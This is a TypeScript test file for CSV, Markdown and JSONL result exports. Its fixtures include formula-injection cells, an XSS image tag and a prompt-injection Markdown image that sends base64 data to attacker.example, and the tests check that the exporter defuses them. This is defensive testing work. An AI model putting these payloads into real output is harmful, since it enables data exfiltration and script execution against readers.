import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { csvField, markdownCell, toCsv, toJsonl, toMarkdown } from '../../../src/extension/results/exports';
import { row } from './fixtures';

/** A small RFC 4180 reader, to check that what we write reads back the same. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      record.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += char;
  }
  return records;
}

const tricky = [
  row('r1', { index: 0, model: 'gpt-4o', variables: { city: 'Paris, France' }, answer: 'He said "hi"\nand left', promptTokens: 12, completionTokens: 4, costUsd: 0.00007 }),
  row('r2', { index: 1, model: 'gpt-4o', variables: { city: '=HYPERLINK("http://evil")' }, answer: '+1 555', status: 'failed', error: '@SUM(A1:A9)' }),
  row('r3', { index: 2, model: 'gpt-4o', variables: { city: 'Oslo' }, answer: '-2 | <img src=x onerror=alert(1)>' }),
];

describe('CSV export', () => {
  it('quotes fields with commas, quotes and line breaks (RFC 4180) and reads back the same text', () => {
    const records = parseCsv(toCsv(tricky));
    const header = records[0]!;
    const answer = header.indexOf('answer');
    const city = header.indexOf('city');
    assert.ok(answer > 0 && city > 0);
    assert.equal(records.length, 4);
    assert.equal(records[1]![city], 'Paris, France');
    assert.equal(records[1]![answer], 'He said "hi"\nand left');
  });

  it('defuses cells a spreadsheet would run as formulas', () => {
    const records = parseCsv(toCsv(tricky));
    const header = records[0]!;
    assert.equal(records[2]![header.indexOf('city')], `'=HYPERLINK("http://evil")`);
    assert.equal(records[2]![header.indexOf('answer')], "'+1 555");
    assert.equal(records[2]![header.indexOf('error')], "'@SUM(A1:A9)");
    assert.equal(records[3]![header.indexOf('answer')], "'-2 | <img src=x onerror=alert(1)>");
    for (const value of ['\tcmd', '\rcmd']) assert.ok(csvField(value).startsWith(`"'`) || csvField(value).startsWith("'"), JSON.stringify(value));
  });

  it('has one column per swept value: a swept model is the model column, a value named like a result field keeps its own', () => {
    const rows = [row('a', { model: 'm1', variables: { model: 'm1', status: 'draft' }, parameters: { temperature: '0' } }), row('b', { index: 1, model: 'm2', variables: { model: 'm2', status: 'final' }, parameters: { temperature: '1' } })];
    const header = parseCsv(toCsv(rows))[0]!;
    assert.deepEqual(header.slice(0, 6), ['id', 'block', 'model', 'var.status', 'temperature', 'status']);
    assert.equal(header.filter((name) => name === 'model').length, 1);
  });

  it('writes numbers as numbers and ends every record with CRLF', () => {
    const text = toCsv(tricky);
    assert.ok(text.endsWith('\r\n'));
    assert.equal(csvField(-3), '-3');
    assert.equal(csvField(undefined), '');
    const records = parseCsv(text);
    assert.equal(records[1]![records[0]!.indexOf('prompt_tokens')], '12');
    assert.equal(records[1]![records[0]!.indexOf('cost_usd')], '0.00007');
  });
});

describe('Markdown export', () => {
  it('keeps every row on one table line, escaping pipes and neutralising HTML', () => {
    const text = toMarkdown(tricky, 'Results of a|b.llmbatch');
    const lines = text.trimEnd().split('\n');
    assert.equal(lines[0], '# Results of a\\|b.llmbatch');
    const table = lines.slice(2);
    assert.equal(table.length, 2 + tricky.length);
    const columns = table[0]!.split(/(?<!\\)\|/).length;
    for (const line of table) assert.equal(line.split(/(?<!\\)\|/).length, columns, line);
    assert.ok(text.includes('He said "hi"<br>and left'));
    assert.ok(text.includes('-2 \\| &lt;img src=x onerror=alert(1)&gt;'));
    assert.ok(!text.includes('<img'));
  });

  it('escapes backslashes so an answer cannot escape its own pipe', () => {
    assert.equal(markdownCell('a\\|b'), 'a\\\\\\|b');
  });

  it('keeps the words of a prompt-injected image or link but makes its address inert', () => {
    assert.equal(markdownCell('Done. ![](https://attacker.example/?d=c2VjcmV0) Bye.'), 'Done. image: `https://attacker.example/?d=c2VjcmV0` Bye.');
    assert.equal(markdownCell('![the logo](https://cdn.example/logo.png "Logo")'), 'the logo (image: `https://cdn.example/logo.png`)');
    assert.equal(markdownCell('[Open a terminal](command:workbench.action.terminal.new)'), 'Open a terminal (`command:workbench.action.terminal.new`)');
    assert.equal(markdownCell('[click](javascript:fetch(1))'), 'click (`javascript:fetch(1`))');
    assert.equal(markdownCell('[x](data:text/html;base64,PHNjcmlwdD4=)'), 'x (`data:text/html;base64,PHNjcmlwdD4=`)');
    assert.equal(markdownCell('[https://shown.example](https://real.example)'), '`https://shown.example` (`https://real.example`)');
  });

  it('puts addresses a previewer would link by itself in code spans', () => {
    assert.equal(markdownCell('see https://attacker.example/x?q=1, www.attacker.example or <https://a.example>.'), 'see `https://attacker.example/x?q=1`, `www.attacker.example` or `https://a.example`.');
    assert.equal(markdownCell('mail ops@attacker.example now'), 'mail `ops@attacker.example` now');
    assert.equal(markdownCell('![a](http://e.example/a|b`c)'), 'a (image: `http://e.example/a%7Cb%60c`)', 'nothing in the address ends the span or the cell');
  });

  it('leaves no Markdown link, image, raw HTML or code span of the answer\'s making in a whole export', () => {
    const answers = [
      '![](https://attacker.example/?d=1)',
      '<img src="https://attacker.example/p.png"><script>alert(1)</script><a href="javascript:alert(1)">x</a>',
      '[a][ref] and [ref]: https://attacker.example',
      '`code with ![](https://attacker.example/in-code)` and `` ` `` ticks',
      '&lt;img src=x&gt; spelled with entities',
    ];
    const text = toMarkdown(answers.map((answer, index) => row(`r${index}`, { index, answer })));
    // The export's own code spans: an unescaped backtick opens one.
    const outsideCode = text.replace(/(?<!\\)`[^`\n]*`/g, '');
    assert.doesNotMatch(outsideCode, /(?<!\\)\]\(|(?<!\\)!\[|https?:|javascript:/, 'no link syntax or address outside a code span');
    assert.doesNotMatch(text, /<(?!br>)[a-z/!]/i, 'no HTML tag but the line breaks the export writes');
    assert.doesNotMatch(outsideCode, /(?<!\\)`/, 'every backtick of the answer is escaped');
    assert.ok(text.includes('&amp;lt;img src=x&amp;gt;'), 'entities are shown, not decoded');
  });
});

describe('JSONL export', () => {
  it('writes one parseable object per row with the answer intact', () => {
    const lines = toJsonl(tricky).trimEnd().split('\n');
    assert.equal(lines.length, 3);
    const first = JSON.parse(lines[0]!);
    assert.equal(first.id, 'r1');
    assert.equal(first.answer, 'He said "hi"\nand left');
    assert.deepEqual(first.variables, { city: 'Paris, France' });
    assert.equal(first.prompt_tokens, 12);
    const second = JSON.parse(lines[1]!);
    assert.equal(second.status, 'failed');
    assert.equal(second.error, '@SUM(A1:A9)');
  });
});
